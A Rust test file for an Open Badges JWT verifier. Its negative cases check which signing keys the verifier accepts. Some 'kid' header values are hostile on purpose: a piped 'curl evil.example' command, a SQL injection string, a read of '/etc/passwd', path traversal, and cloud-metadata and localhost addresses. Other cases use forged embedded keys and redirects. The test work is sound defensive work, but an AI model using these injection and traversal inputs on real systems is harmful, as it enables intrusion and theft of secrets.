//! Whose key a token is judged by: names that lead elsewhere, keys that come along, sets of the host.

use openbadges::verify::Code;
use serde_json::{Value, json};

use super::super::take;
use super::{THIEF, forged, headed, merge};
use crate::issuer::{Case, Issuer, key};
use crate::token::{claims, encode, signed_by};

const FAILED: &[Code] = &[Code::ProofFailed];
const NOTHING: &[Code] = &[Code::TokenProvesNothing];
const UNSUPPORTED: &[Code] = &[Code::ProofUnsupported];
const MALFORMED: &[Code] = &[Code::TokenMalformed];
const NOT_LISTED: &[Code] = &[Code::KeyNotListed];
const SECRET: &[Code] = &[Code::TokenHoldsSecret];
const MISSING: &[Code] = &[Code::ClaimMissing];

pub(super) fn cases() -> Vec<Case> {
    [named_keys(), brought_keys(), well_known()].concat()
}

/// What `kid` names is looked for at the issuer, and nowhere else.
fn named_keys() -> Vec<Case> {
    let thief = key(THIEF).public().to_multikey();
    let club = Issuer::new();
    let named = |kid: String| forged(&json!({ "kid": kid }));
    let rule = "CRED-JOSE-10";
    let mut stolen = Issuer::new();
    let token = stolen.token(|_, _| {});
    let mut dropped = stolen.clone();
    stolen.compromise();
    dropped.drop_key();
    let mut logs_in = Issuer::new();
    let log_in = logs_in.token(|_, _| {});
    logs_in.lie(&logs_in.did_url(), |did| did["authentication"] = take(did, "/assertionMethod"));
    let mut silent = Issuer::new();
    let unheard = silent.token(|_, _| {});
    silent.unplug(&silent.did_url());
    let mut moved = Issuer::new();
    let elsewhere = moved.token(|_, _| {});
    moved.redirect(&moved.did_url(), "https://evil.example/did.json");
    let mut scene = moved.presents_bytes(elsewhere);
    let mut other = Issuer::new();
    other.publish("https://evil.example/did.json", &moved.did_document());
    scene.web = scene.web.and(other.web());
    [
        ("token-kid/of-a-thief-in-our-name", format!("{}#{thief}", club.did())),
        ("token-kid/of-another-did", format!("did:web:evil.example#{thief}")),
        ("token-kid/of-a-neighbour", format!("did:web:badges.example:issuers:other#{thief}")),
        ("token-kid/of-the-whole-host", format!("did:web:badges.example#{thief}")),
        ("token-kid/a-bare-key", format!("did:key:{thief}#{thief}")),
        ("token-kid/of-another-address", "https://evil.example/keys.json#k1".to_owned()),
        ("token-kid/of-a-private-address", "http://169.254.169.254/latest/meta-data".to_owned()),
        ("token-kid/of-this-machine", "https://localhost/keys#k1".to_owned()),
        ("token-kid/a-file", "file:///etc/passwd".to_owned()),
        ("token-kid/the-null-device", "../../../../../../dev/null".to_owned()),
        ("token-kid/a-statement-for-a-database", "x' UNION SELECT 'secret'; --".to_owned()),
        ("token-kid/a-command", "key | curl evil.example".to_owned()),
        ("token-kid/data", format!("data:application/json,{}", key(THIEF).public().to_jwk())),
        ("token-kid/empty", String::new()),
        ("token-kid/a-bare-mark", "#".to_owned()),
        ("token-kid/a-nul", "k\0".to_owned()),
        ("token-kid/of-ten-thousand-letters", "k".repeat(10_000)),
        ("token-kid/in-capitals", club.method().to_uppercase()),
        ("token-kid/with-a-question", format!("{}?x=1#{thief}", club.did())),
    ]
    .map(|(name, kid)| named(kid).invalid(name, rule, NOT_LISTED))
    .into_iter()
    .chain([
        headed(&json!({ "kid": 1 })).invalid("token-kid/a-number", rule, MALFORMED),
        headed(&json!({ "kid": [club.method()] })).invalid(
            "token-kid/in-an-array",
            rule,
            MALFORMED,
        ),
        headed(&json!({ "kid": "k".repeat(20_000) })).invalid(
            "token-kid/beyond-the-bound",
            "CRED-SAFE-9",
            MALFORMED,
        ),
        headed(&json!({ "kid": null })).invalid("token-kid/absent", "OB3-JWT-3", MISSING),
        stolen.presents_bytes(token.clone()).invalid(
            "token-kid/compromised",
            "CRED-KEY-10",
            &[Code::KeyRevoked],
        ),
        dropped.presents_bytes(token).invalid("token-kid/taken-away", "CRED-KEY-1", NOT_LISTED),
        logs_in.presents_bytes(log_in).invalid(
            "token-kid/only-to-log-in",
            "CRED-KEY-1",
            NOT_LISTED,
        ),
        silent.presents_bytes(unheard).unknown(
            "token-kid/nobody-answers",
            "OB3-VAL-16",
            &[Code::DocumentUnavailable],
        ),
        scene.unknown(
            "token-kid/another-host-answers",
            "CRED-DIDWEB-8",
            &[Code::DocumentOtherHost],
        ),
    ])
    .collect()
}

/// A key that comes with the token is anybody's (OB3-JWT-15).
fn brought_keys() -> Vec<Case> {
    let thief = key(THIEF).public().to_jwk();
    let ours = Issuer::new().key().public().to_jwk();
    let with = |jwk: Value, more: Value| {
        let mut jwk = jwk;
        merge(&mut jwk, &more);
        jwk
    };
    let alone = |jwk: &Value| forged(&json!({ "kid": null, "jwk": jwk }));
    let rsa = |bytes: usize| json!({ "kty": "RSA", "n": encode(vec![0xff; bytes]), "e": "AQAB" });
    let rule = "OB3-JWT-15";
    let elsewhere = "https://evil.example/jwks.json";
    vec![
        alone(&thief).invalid("token-jwk/of-a-thief", rule, NOT_LISTED),
        forged(&json!({ "jwk": thief })).invalid(
            "token-jwk/of-a-thief-under-our-kid",
            rule,
            FAILED,
        ),
        alone(&with(thief.clone(), json!({ "kid": Issuer::new().method() }))).invalid(
            "token-jwk/of-a-thief-that-bears-our-kid",
            rule,
            NOT_LISTED,
        ),
        alone(&with(thief.clone(), json!({ "iss": Issuer::new().did() }))).invalid(
            "token-jwk/of-a-thief-that-names-us",
            "OB3-JWT-14",
            NOT_LISTED,
        ),
        alone(&ours).invalid("token-jwk/ours-and-a-thiefs-signature", rule, FAILED),
        headed(&json!({ "jwk": with(ours.clone(), json!({ "d": encode([7; 32]) })) })).invalid(
            "token-jwk/with-its-secret",
            "OB3-JWT-3",
            SECRET,
        ),
        headed(&json!({ "jwk": { "kty": "oct", "k": encode([7; 32]) } })).invalid(
            "token-jwk/a-shared-secret",
            "OB3-JWT-3",
            SECRET,
        ),
        forged(&json!({ "alg": "HS256", "kid": null, "jwk": { "kty": "oct", "k": "AA" } }))
            .invalid("token-jwk/a-shared-secret-that-signs", rule, NOTHING),
        headed(&json!({ "jwk": { "kty": "oct" } })).unknown(
            "token-jwk/of-no-known-type",
            rule,
            UNSUPPORTED,
        ),
        headed(&json!({ "jwk": "mine" })).invalid("token-jwk/a-text", "OB3-JWT-3", MALFORMED),
        headed(&json!({ "jwk": [ours] })).invalid("token-jwk/in-an-array", "OB3-JWT-3", MALFORMED),
        headed(&json!({ "jwk": with(ours.clone(), json!({ "use": "enc" })) })).invalid(
            "token-jwk/for-encryption",
            "CRED-KEY-6",
            MALFORMED,
        ),
        headed(&json!({ "jwk": with(ours.clone(), json!({ "alg": "ES256" })) })).invalid(
            "token-jwk/for-another-algorithm",
            "CRED-JOSE-8",
            MALFORMED,
        ),
        headed(&json!({ "jwk": { "kty": "OKP", "crv": "Ed25519", "x": encode([0; 32]) } }))
            .invalid("token-jwk/a-point-of-small-order", "CRED-EDDSA-6", MALFORMED),
        alone(&rsa(128)).invalid("token-jwk/rsa-of-1024-bits", "CRED-JOSE-8", MALFORMED),
        alone(&rsa(8192)).invalid("token-jwk/rsa-of-65536-bits", "CRED-JOSE-8", MALFORMED),
        forged(&json!({ "alg": "RS256", "kid": null, "jwk": rsa(256) })).invalid(
            "token-jwk/rsa-of-a-thief",
            rule,
            NOT_LISTED,
        ),
        forged(&json!({ "kid": null, "jku": elsewhere })).invalid(
            "token-jku/alone",
            "CRED-JOSE-9",
            MISSING,
        ),
        forged(&json!({ "jku": elsewhere })).invalid(
            "token-jku/beside-our-kid",
            "CRED-JOSE-9",
            FAILED,
        ),
        forged(&json!({ "kid": "evil", "jku": elsewhere })).invalid(
            "token-jku/beside-a-thiefs-kid",
            "CRED-JOSE-9",
            NOT_LISTED,
        ),
        forged(&json!({ "kid": null, "x5u": "https://evil.example/chain.pem" })).invalid(
            "token-x5u/alone",
            "CRED-JOSE-9",
            MISSING,
        ),
        forged(&json!({ "kid": null, "x5c": ["MIIBszCCAVmgAwIBAgIUFAKE"] })).invalid(
            "token-x5c/alone",
            "CRED-JOSE-9",
            MISSING,
        ),
        forged(&json!({ "x5c": ["MIIBszCCAVmgAwIBAgIUFAKE"], "x5t#S256": encode([1; 32]) }))
            .invalid("token-x5c/beside-our-kid", "CRED-JOSE-9", FAILED),
    ]
}

/// An issuer known by its address, whose keys are at the well-known place of its host (OB3-JWT-14).
fn well_known() -> Vec<Case> {
    let place = "https://badges.example/.well-known/jwks.json";
    let id = "https://badges.example/issuers/club/profile.json";
    let by_address = |serve: &dyn Fn(&mut Issuer, Value)| {
        let mut club = Issuer::new();
        let mut payload = claims(&club.draft());
        take(&mut payload, "/credentialStatus");
        payload["issuer"]["id"] = json!(id);
        payload["iss"] = json!(id);
        let mut jwk = club.key().public().to_jwk();
        jwk["kid"] = json!("k1");
        club.publish(id, &json!({ "id": id, "type": ["Profile"], "name": "Le club" }));
        serve(&mut club, jwk);
        let header = json!({ "alg": "EdDSA", "kid": "https://badges.example/keys#k1" });
        club.presents_bytes(signed_by(&club.key(), &header, &payload))
    };
    let listed = |change: fn(Value) -> Value| {
        by_address(&move |club, jwk| club.publish(place, &change(jwk)))
    };
    let rule = "OB3-JWT-14";
    vec![
        listed(|jwk| json!({ "keys": [jwk] })).valid("token-keys/of-the-host", rule),
        listed(|_| json!({ "keys": [] })).invalid("token-keys/none", rule, NOT_LISTED),
        listed(|jwk| json!({ "keys": [jwk, jwk] })).invalid(
            "token-keys/two-of-one-name",
            rule,
            NOT_LISTED,
        ),
        listed(|mut jwk| {
            jwk["iss"] = json!("https://badges.example/issuers/other/profile.json");
            json!({ "keys": [jwk] })
        })
        .invalid("token-keys/of-another-issuer", rule, NOT_LISTED),
        listed(|mut jwk| {
            jwk["d"] = json!("AA");
            json!({ "keys": [jwk] })
        })
        .invalid("token-keys/a-published-secret", rule, NOT_LISTED),
        listed(|mut jwk| {
            jwk["x"] = key(THIEF).public().to_jwk()["x"].clone();
            json!({ "keys": [jwk] })
        })
        .invalid("token-keys/another-one-of-that-name", rule, FAILED),
        by_address(&|club, jwk| {
            club.publish("https://evil.example/jwks.json", &json!({ "keys": [jwk] }));
            club.redirect(place, "https://evil.example/jwks.json");
        })
        .unknown("token-keys/on-another-host", rule, &[Code::DocumentOtherHost]),
        by_address(&|club, _| club.unplug(place)).unknown(
            "token-keys/nobody-answers",
            rule,
            &[Code::DocumentUnavailable],
        ),
        by_address(&|club, _| club.serve(place, 404, "text/html", "")).invalid(
            "token-keys/not-there",
            rule,
            NOT_LISTED,
        ),
    ]
}
